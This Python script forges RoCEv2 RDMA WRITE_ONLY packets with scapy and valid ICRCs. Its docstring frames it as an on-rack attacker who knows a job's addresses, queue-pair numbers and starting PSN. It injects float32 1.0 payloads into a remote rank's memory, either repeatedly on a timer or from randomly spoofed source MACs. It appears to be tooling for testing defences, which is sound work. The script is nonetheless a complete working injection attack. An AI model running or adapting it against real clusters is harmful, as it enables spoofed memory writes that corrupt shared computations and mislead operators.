#!/usr/bin/python3
"""A host on the rack forging a rank's RDMA WRITEs (scapy-built RoCEv2 RC WRITE_ONLY, a good ICRC),
as an attacker who knows the job's addresses, QPNs and start PSN would send them.
  forge_rank.py IFACE SRC_MAC DST_MAC SRC_IP DST_IP DQPN PSN PAYLOAD_BYTES every MS SECONDS
      the WRITE at PSN, again every MS ms for SECONDS or until SIGTERM (then it says how many it sent)
  forge_rank.py IFACE SRC_MAC DST_MAC SRC_IP DST_IP DQPN PSN PAYLOAD_BYTES random-macs COUNT
      COUNT copies of it, each from a random locally administered source MAC
The payload is float32 1.0 throughout: a tally element of 1.0 in every message it lands in."""
import os
import random
import signal
import struct
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from roce_frames import frames as roce_frames  # noqa: E402
from scapy.all import conf, sendp  # noqa: E402

WRITE_ONLY = 0x0A


def main(argv):
    if len(argv) < 11 or argv[9] not in ("every", "random-macs"):
        print(__doc__, file=sys.stderr)
        return 2
    iface, src_mac, dst_mac, src_ip, dst_ip = argv[1:6]
    dqpn, psn, size = int(argv[6], 0), int(argv[7], 0), int(argv[8])
    reth = struct.pack(">QII", 0x7F0000000000, 0x1234, size)  # a guessed address and rkey
    payload = reth + struct.pack("<f", 1.0) * (size // 4)

    def frame(mac):
        return roce_frames(src_ip, dst_ip, dqpn, psn, 1, "good", WRITE_ONLY, payload, dst_mac=dst_mac, src_mac=mac)[0]

    sock = conf.L2socket(iface=iface)
    sent = 0
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(True))
    if argv[9] == "every":
        every, until = float(argv[10]) / 1000, time.monotonic() + float(argv[11])
        f = frame(src_mac)
        print("ready", flush=True)
        while time.monotonic() < until and not stop:
            sock.send(f)
            sent += 1
            time.sleep(every)
    else:
        rnd = random.Random(7)
        for _ in range(int(argv[10])):
            mac = "02:" + ":".join(f"{rnd.randrange(256):02x}" for _ in range(5))
            sock.send(frame(mac))
            sent += 1
    sock.close()
    print(f"sent {sent} forged WRITE_ONLY packets {src_ip} -> {dst_ip} QPN {dqpn:#x} PSN {psn:#x} via {iface}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
